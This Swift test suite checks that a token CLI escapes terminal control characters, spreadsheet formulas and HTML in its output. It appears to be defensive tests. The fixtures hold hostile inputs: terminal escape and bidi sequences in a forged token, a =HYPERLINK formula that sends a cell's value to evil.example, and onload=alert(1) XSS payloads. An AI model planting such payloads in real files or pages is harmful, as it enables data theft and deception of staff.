import Foundation
import Testing

/// What staff see and paste: a terminal, HTML and a spreadsheet each get text escaped for them.
@Suite struct OutputEscapingCLITests {
    /// A token anyone can forge: the right layout, any claims, a tag that does not check out. `inspect` decodes
    /// it and shows its claims marked unverified.
    static func forgedToken(client: String, name: String) -> String {
        var bytes: [UInt8] = [1, 0x12, 0x34, 0x56, 0x78]
        for time in [UInt32(1_800_000_000), 1_900_000_000] { bytes += withUnsafeBytes(of: time.bigEndian, Array.init) }
        bytes += [0x02, 0, 7, UInt8(client.utf8.count)] + Array(client.utf8) + [UInt8(name.utf8.count)] + Array(name.utf8)
        bytes += Array(repeating: 0xA5, count: 16)  // the tag: 16 bytes, not the right ones
        return Data(bytes).base64EncodedString().replacingOccurrences(of: "+", with: "-")
            .replacingOccurrences(of: "/", with: "_").replacingOccurrences(of: "=", with: "")
    }

    @Test func inspectEscapesAForgedTokensText() async throws {
        let cli = CLI()
        defer { cli.remove() }
        _ = try await cli.run("keys", "rotate")
        let token = Self.forgedToken(client: "acme\u{1B}]0;pwned\u{7}", name: "\u{1B}[8m\u{202E}Corp\u{85}\nresult:  valid")
        let output = try await cli.run("inspect", token)
        let bad: [Unicode.Scalar] = ["\u{1B}", "\u{7}", "\u{202E}", "\u{85}"]
        #expect(!output.stdout.unicodeScalars.contains(where: bad.contains), "\(output.stdout.debugDescription)")
        let client = try #require(output.stdout.split(separator: "\n").first { $0.hasPrefix("client:") })
        #expect(client == "client:   acme\\u{1B}]0;pwned\\u{7}  [unverified]")
        let name = try #require(output.stdout.split(separator: "\n").first { $0.hasPrefix("name:") })
        #expect(name == "name:     \\u{1B}[8m\\u{202E}Corp\\u{85}\\u{A}result:  valid  [unverified]")
        #expect(output.stdout.split(separator: "\n").filter { $0.hasPrefix("result:") } == ["result:   invalid (unknown_key)"])
    }

    @Test func bulkOutputNeutralisesFormulasAndHTMLKeepsMarksAsText() async throws {
        let cli = CLI()
        defer { cli.remove() }
        try FileManager.default.createDirectory(atPath: cli.home, withIntermediateDirectories: true)
        let csv = cli.home + "/clients.csv"
        try """
            client_id,name
            acme,"=HYPERLINK(""https://evil.example/?""&F2,""Open"")"
            globex,@SUM(1+1)
            initech,Initech
            """.write(toFile: csv, atomically: true, encoding: .utf8)
        let output = try await cli.run("issue", "--csv", csv, "--base-url", "https://portal.example.com/join")
        #expect(output.status == 0, "\(output.stderr)")
        #expect(output.stdout.contains(",acme,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&F2,\"\"Open\"\")\","))
        #expect(output.stdout.contains(",globex,\"'@SUM(1+1)\","))
        #expect(output.stdout.contains(",initech,Initech,"))

        let html = try await cli.run("issue", "--client", "acme", "--name", "The x\"\u{301} onload=alert(1) y", "--format", "html",
                               "--base-url", "https://portal.example.com/join")
        #expect(html.status == 0, "\(html.stderr)")
        #expect(html.stdout.contains(">Join the The x&quot;\u{301} onload=alert(1) y portal</a>"))
        let frame = try await cli.run("issue", "--client", "acme", "--name", "\u{600}<svg onload=alert(1)>", "--format", "iframe",
                                "--base-url", "https://portal.example.com/join")
        #expect(frame.stdout.contains("title=\"The \u{600}&lt;svg onload=alert(1)&gt; portal\""), "\(frame.stdout)")
    }
}
